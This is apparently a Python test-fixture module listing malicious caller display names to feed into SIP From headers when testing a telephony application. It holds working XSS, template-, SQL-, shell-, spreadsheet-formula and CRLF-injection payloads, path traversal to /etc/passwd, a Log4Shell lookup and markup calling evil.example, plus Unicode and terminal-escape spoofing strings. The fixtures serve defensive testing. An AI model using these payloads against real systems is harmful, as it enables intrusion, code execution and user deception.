"""Names that strangers call themselves, to do harm: each goes into a real SIP From."""

from __future__ import annotations

from typing import Final

NAMES: Final = (
    # markup, and what runs in it
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<math><mtext></table><mglyph><style><!--</style>",
    "<template shadowrootmode=open><slot></slot>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<a href=javascript:alert(1)>Maria</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    " onmouseover=alert(1) x=",
    "x' style='position:fixed;inset:0;background:red",
    # what template languages would do
    "${alert(1)}",
    "`${alert(1)}`",
    "{{7*7}}",
    "{% debug %}",
    "<%= 7*7 %>",
    "#{7*7} *{7*7} @(7*7)",
    "{{constructor.constructor('alert(1)')()}}",
    # what other programs would do
    "' OR '1'='1' --",
    "'; DROP TABLE accounts_user; --",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "$(touch /tmp/pwned)",
    "`id`; id | id & id",
    "../../../../etc/passwd",
    "%00%0d%0aAction: Originate",
    "${jndi:ldap://evil.example/x}",
    '{"type":"result","outcome":"done"}',
    '","phase":"ended","x":"',
    "\\u003cscript\\u003e",
    # what deceives the eye, or a terminal
    "evil\u202egnp.exe",
    "\u2066Maria\u2069 \u2067\u202d",
    "1\u200b0\u200b1\ufeff",
    "\u200f\u200e\u061cMaria",
    "A\u0301\u0336\u0489" + "\u0336\u0489" * 40,
    "\x1b[2J\x1b[31mroot\x1b]0;x\x07",
    "a\x08\x08b\x7f\x80\x85\x9bc",
    "Maria\u2028Weber\u2029",
    "\u0430dmin",
    "Zo\u0065\u0308 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f525",
    "x" * 500,
    "\U0001f525" * 70,
    # no text at all
    "\udcff\udcfe\udcc3(",
    "\udced\udca0\udcbd \udcc0\udcbc",
)
"""Lone surrogates stand for bytes that are no UTF-8 (as in ``surrogateescape``)."""
